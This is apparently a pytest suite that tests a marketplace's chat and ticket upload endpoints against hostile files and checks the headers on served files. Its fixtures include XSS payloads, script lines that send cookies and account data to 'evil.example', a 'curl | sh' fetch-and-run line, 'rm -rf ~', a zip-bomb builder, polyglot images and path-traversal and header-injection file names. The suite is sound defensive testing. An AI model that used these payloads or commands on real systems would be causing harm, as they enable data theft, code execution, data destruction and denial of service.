"""Hostile uploads through the real endpoints (chat and ticket uploads), and how files are served.

None is accepted except real images and documents; whatever is accepted is served with its
sniffed type, `X-Content-Type-Options: nosniff` and a sandboxing CSP, inline only when it is
a real image, under a name with no path or control characters that ends as its content is.
"""
import functools
import io
import unicodedata
import zipfile
from dataclasses import dataclass
from urllib.parse import quote, unquote, urlsplit

import pytest

from gharbazaar import db
from tests.support.files import docx_bytes, pdf_bytes, png_bytes
from tests.support.people import new_person

INVALID_TYPE = {"success": False, "error": "Invalid file type. Only images and documents are allowed.",
                "code": "unsupported_media_type"}
TOO_LARGE = {"success": False, "error": "File too large. Maximum size: 10MB", "code": "payload_too_large"}
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
EMPTY = {"success": False, "error": "The file is empty", "code": "validation_error"}


@dataclass
class Place:
    """Where a test uploads: a conversation or a ticket made for it."""

    kind: str
    client: object
    app: object
    path: str
    form: dict
    scope_id: str
    uploader: object

    def upload(self, data, name, mime):
        form = {**self.form, "file": (io.BytesIO(data), name, mime)}
        return self.client.post(self.path, data=form, headers=self.uploader.headers,
                                content_type="multipart/form-data")

    def upload_named(self, data, name, mime="image/png"):
        """Upload with the name sent as RFC 5987 `filename*`: NUL, CR/LF and the like arrive as they are."""
        boundary = "hostile-name-boundary"
        parts = [f'--{boundary}\r\nContent-Disposition: form-data; name="{key}"\r\n\r\n{value}\r\n'.encode()
                 for key, value in self.form.items()]
        parts.append(f"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; "
                     f"filename*=UTF-8''{quote(name, safe='')}\r\nContent-Type: {mime}\r\n\r\n".encode()
                     + data + f"\r\n--{boundary}--\r\n".encode())
        return self.client.post(self.path, data=b"".join(parts), headers=self.uploader.headers,
                                content_type=f"multipart/form-data; boundary={boundary}")

    def stored(self):
        """The names of the files stored for this conversation or ticket."""
        files = db.get_db(self.app)["fs.files"].find({"metadata.scopeId": self.scope_id})
        return [f["metadata"]["fileName"] for f in files]

    def accepted(self, response):
        """Return (fileName, fileType, url) from either endpoint's answer."""
        assert response.status_code == 201, response.get_json()
        data = response.get_json()["data"]
        meta = data.get("metadata", data)
        return meta["fileName"], meta["fileType"], data["url"]

    def serve(self, url):
        parts = urlsplit(url)
        return self.client.get(f"{parts.path}?{parts.query}")


@pytest.fixture(params=["chat", "ticket"])
def place(request, security_app, security_client):
    buyer, seller = new_person("buyer", "Asha Buyer"), new_person("seller", "Ravi Seller")
    if request.param == "chat":
        answer = security_client.post("/api/v1/chat/conversations", headers=buyer.headers,
                                      json={"otherUserId": seller.id})
        scope_id = answer.get_json()["data"]["conversation"]["id"]
        return Place("chat", security_client, security_app, "/api/v1/chat/upload",
                     {"conversationId": scope_id}, scope_id, buyer)
    answer = security_client.post("/api/v1/tickets", headers=buyer.headers, json={
        "categoryTitle": "Documents", "subCategoryTitle": "Upload", "problem": "Here is my file."})
    scope_id = answer.get_json()["data"]["ticket"]["id"]
    return Place("ticket", security_client, security_app, f"/api/v1/tickets/{scope_id}/upload", {},
                 scope_id, buyer)


def office_zip(*entries, level=None):
    """A ZIP with the given (name, bytes) entries, deflated."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, data in entries:
            archive.writestr(name, data)
    return buffer.getvalue()


@functools.lru_cache(maxsize=2)
def docx_bomb(megabytes=200):
    """A DOCX whose one media entry inflates to `megabytes` of zeros (about 1/1000 of that on the wire)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        archive.writestr("word/document.xml", '<?xml version="1.0"?><w:document/>')
        entry = zipfile.ZipInfo("word/media/image1.png")
        entry.compress_type = zipfile.ZIP_DEFLATED
        megabyte = bytes(1 << 20)
        with archive.open(entry, "w") as stream:
            for _ in range(megabytes):
                stream.write(megabyte)
    return buffer.getvalue()


def many_entries():
    """A DOCX with more directory entries than anyone's document has (5001)."""
    entries = [("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"<w:document/>")]
    return office_zip(*entries, *((f"word/media/{n}.bin", b"") for n in range(5000)))


ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + bytes(40)
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(44) + b"\x80\x00\x00\x00" + \
    b"PE\x00\x00\x4c\x01" + bytes(64)
JAR = office_zip(("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\r\nMain-Class: Evil\r\n"),
                 ("Evil.class", b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(16)))
PLAIN_ZIP = office_zip(("notes/readme.txt", b"hello"))
TYPES_ONLY_ZIP = office_zip(("[Content_Types].xml", b"<Types/>"), ("payload/run.sh", b"#!/bin/sh\n"))

HOSTILE = {
    "html document": (b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>",
                      "page.html", "text/html"),
    "html named png": (b"<html><body><img src=x onerror=alert(1)></body></html>", "photo.png", "image/png"),
    "uppercase html after blank lines": (b"\n\n  <HTML><SCRIPT>alert(1)</SCRIPT></HTML>", "photo.jpg",
                                         "image/jpeg"),
    "svg": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="4"/></svg>',
            "icon.svg", "image/svg+xml"),
    "svg with xml prolog named png": (b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg">'
                                      b'<script>alert(1)</script></svg>', "icon.png", "image/png"),
    "elf executable named jpg": (ELF, "photo.jpg", "image/jpeg"),
    "pe executable named pdf": (PE, "deed.pdf", "application/pdf"),
    "jar": (JAR, "app.jar", "application/java-archive"),
    "plain zip named docx": (PLAIN_ZIP, "agreement.docx", "application/octet-stream"),
    "zip with only a content-types entry": (TYPES_ONLY_ZIP, "agreement.docx", DOCX),
    "office zip with 5001 entries": (many_entries(), "agreement.docx", "application/octet-stream"),
    "nul bytes named png": (bytes(4096), "photo.png", "image/png"),
    "truncated png header": (b"\x89PNG\r\n", "photo.png", "image/png"),
}
# Text a browser would run or render; the sniffer lets these through as text/plain today.
HOSTILE_TEXT = {
    "javascript": (b"fetch('/api/v1/me').then(r => r.text())"
                   b".then(t => new Image().src = '//evil.example/?' + t);\n",
                   "app.js", "application/javascript"),
    "javascript named png": (b"document.location='//evil.example/?c='+document.cookie;\n", "photo.png",
                             "image/png"),
    "shell script": (b"#!/bin/sh\ncurl -s http://evil.example/x | sh\n", "install.sh", "application/x-sh"),
    "shell script named jpg": (b"#!/bin/bash\nrm -rf ~\n", "photo.jpg", "image/jpeg"),
    "html fragment without a root element": (b"<body onload=alert(1)><iframe src=//evil.example></iframe>",
                                             "photo.png", "image/png"),
    "html behind a comment": (b"<!-- a photo --><html><script>alert(1)</script></html>", "photo.png",
                              "image/png"),
    "html behind a byte order mark": (b"\xef\xbb\xbf<html><script>alert(1)</script></html>", "photo.png",
                                      "image/png"),
}


STATUS = {"unsupported_media_type": 415, "payload_too_large": 413, "validation_error": 400}


def assert_refused(place, response, expected=INVALID_TYPE):
    assert (response.status_code, response.get_json()) == (STATUS[expected["code"]], expected)
    assert place.stored() == [], "a refused file was stored"


@pytest.mark.parametrize("case", HOSTILE)
def test_hostile_content_is_refused_as_an_unsupported_type_and_nothing_is_stored(place, case):
    data, name, mime = HOSTILE[case]
    assert_refused(place, place.upload(data, name, mime))


@pytest.mark.parametrize("case", HOSTILE_TEXT)
def test_scripts_and_markup_are_refused_whatever_they_are_called(place, case):
    data, name, mime = HOSTILE_TEXT[case]
    assert_refused(place, place.upload(data, name, mime))


@pytest.mark.parametrize("case", HOSTILE_TEXT)
def test_text_that_passes_the_sniffer_is_never_served_as_markup_or_script(place, case):
    data, name, mime = HOSTILE_TEXT[case]
    response = place.upload(data, name, mime)
    if response.status_code == 415:  # refused: the stronger rule above holds
        assert response.get_json() == INVALID_TYPE and place.stored() == []
        return
    file_name, file_type, url = place.accepted(response)
    assert file_type == "document" and file_name.endswith(".txt")
    served = place.serve(url)
    assert served.status_code == 200 and served.data == data
    assert served.mimetype == "text/plain"
    assert_served_safely(served, inline=False)


@pytest.mark.parametrize("megabytes", [200, 20], ids=["a 200 MB entry", "a 20 MB entry at 1000 to 1"])
def test_an_office_document_that_inflates_far_beyond_its_size_is_refused(place, megabytes):
    bomb = docx_bomb(megabytes)
    assert len(bomb) * 500 < megabytes << 20  # small on the wire: only its directory tells
    assert_refused(place, place.upload(bomb, "agreement.docx", DOCX))


def test_an_empty_file_is_refused_and_nothing_is_stored(place):
    response = place.upload(b"", "photo.png", "image/png")
    # The contract's catch-all is 415; the backend answers the more helpful 400 (tests/core/test_files.py).
    envelope = {key: response.get_json()[key] for key in ("success", "error", "code")}
    assert envelope in (INVALID_TYPE, EMPTY)
    assert response.status_code == (415 if envelope == INVALID_TYPE else 400)
    assert place.stored() == []


@pytest.mark.parametrize("extra", [1, 1024 * 1024], ids=["one byte over", "a megabyte over the body cap"])
def test_files_over_the_limit_are_refused_with_413_and_the_contract_text(place, extra):
    data = png_bytes() + bytes(10 * 1024 * 1024 - len(png_bytes()) + extra)
    assert_refused(place, place.upload(data, "big.png", "image/png"), TOO_LARGE)


# ---- what is accepted is served safely ---------------------------------------------------
def served_name(response):
    disposition = response.headers["Content-Disposition"]
    assert "\r" not in disposition and "\n" not in disposition
    kind, _, encoded = disposition.partition("; filename*=UTF-8''")
    return kind, unquote(encoded)


def assert_served_safely(served, inline):
    assert served.headers["X-Content-Type-Options"] == "nosniff"
    policy = served.headers["Content-Security-Policy"]
    assert "sandbox" in policy and "default-src 'none'" in policy
    kind, _ = served_name(served)
    assert kind == ("inline" if inline else "attachment")
    assert "html" not in served.mimetype and "script" not in served.mimetype and "svg" not in served.mimetype


POLYGLOTS = {
    "gif89a header then javascript": (b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=alert(document.domain)//;",
                                      "image/gif"),
    "png signature then html": (b"\x89PNG\r\n\x1a\n<html><script>alert(1)</script></html>", "image/png"),
}


@pytest.mark.parametrize("case", POLYGLOTS)
def test_polyglot_images_are_served_only_as_images_with_nosniff_and_a_sandbox(place, case):
    data, image_type = POLYGLOTS[case]
    response = place.upload(data, "avatar.html", "text/html")
    if response.status_code == 415:  # refusing a polyglot outright is fine too
        assert response.get_json() == INVALID_TYPE and place.stored() == []
        return
    file_name, file_type, url = place.accepted(response)
    extension = image_type.split("/")[1]
    assert file_type == "image" and file_name == f"avatar.{extension}"
    served = place.serve(url)
    assert served.status_code == 200 and served.data == data and served.mimetype == image_type
    assert_served_safely(served, inline=True)


def clean(name):
    """No path separators, no control or format characters (NUL, CR/LF, RTL override)."""
    return ("/" not in name and "\\" not in name and not name.startswith(".")
            and all(unicodedata.category(ch) not in ("Cc", "Cf") for ch in name))


HOSTILE_NAMES = {
    "dot-dot slashes": ("../../etc/passwd.png", "passwd.png"),
    "windows dot-dot backslashes": ("..\\..\\windows\\win.ini", "win.png"),
    "absolute path": ("/var/www/html/index.png", "index.png"),
    "nul before a second extension": ("avatar.php\x00.png", "avatar.php.png"),
    "header injection": ("a\r\nContent-Type: text/html\r\n\r\n<script>.png", None),
    "disposition parameter injection": ('x"; filename="evil.html', None),
    "right-to-left override": ("photo\u202egnp.exe", "photognp.png"),
    "very long name": ("x" * 5000 + ".png", None),
    "only dots": ("....", "file.png"),
}


@pytest.mark.parametrize("case", HOSTILE_NAMES)
def test_hostile_file_names_are_stored_and_served_without_paths_or_control_characters(place, case):
    name, expected = HOSTILE_NAMES[case]
    file_name, file_type, url = place.accepted(place.upload_named(png_bytes(), name))
    assert clean(file_name) and file_name.endswith(".png") and len(file_name) <= 255, file_name
    assert '"' not in file_name and "html" not in file_name.rsplit(".", 1)[1]
    if expected:
        assert file_name == expected
    assert place.stored() == [file_name]
    served = place.serve(url)
    assert served.status_code == 200 and served.mimetype == "image/png"
    kind, shown = served_name(served)
    assert kind == "inline" and shown == file_name


def test_a_pdf_claiming_to_be_a_png_is_stored_and_served_as_a_pdf_attachment(place):
    file_name, file_type, url = place.accepted(place.upload(pdf_bytes(), "photo.png", "image/png"))
    assert (file_name, file_type) == ("photo.pdf", "document")
    served = place.serve(url)
    assert served.status_code == 200 and served.mimetype == "application/pdf" and served.data == pdf_bytes()
    assert_served_safely(served, inline=False)
    assert served_name(served) == ("attachment", "photo.pdf")


JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00" \
      b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
WEBP = b"RIFF\x1a\x00\x00\x00WEBPVP8L\x0d\x00\x00\x00/\x00\x00\x00\x10\x07\x10\x11\x11\x88\x88\xfe\x07\x00"
REAL_FILES = {
    "png": (png_bytes(), "house.png", "image/png", True),
    "jpeg": (JPEG, "house.jpeg", "image/jpeg", True),
    "gif": (GIF, "house.gif", "image/gif", True),
    "webp": (WEBP, "house.webp", "image/webp", True),
    "pdf": (pdf_bytes(), "deed.pdf", "application/pdf", False),
    "docx": (docx_bytes(), "agreement.docx", DOCX, False),
    "plain text": (b"Plot 42, north-facing, 1200 sq ft.\n", "notes.txt", "text/plain", False),
}


@pytest.mark.parametrize("case", REAL_FILES)
def test_real_images_are_served_inline_and_documents_as_attachments(place, case):
    data, name, mime, inline = REAL_FILES[case]
    file_name, file_type, url = place.accepted(place.upload(data, name, "application/octet-stream"))
    assert (file_name, file_type) == (name, "image" if inline else "document")
    served = place.serve(url)
    assert served.status_code == 200 and served.data == data and served.mimetype == mime
    assert_served_safely(served, inline=inline)
    assert served.headers["Cross-Origin-Resource-Policy"] == "cross-origin"
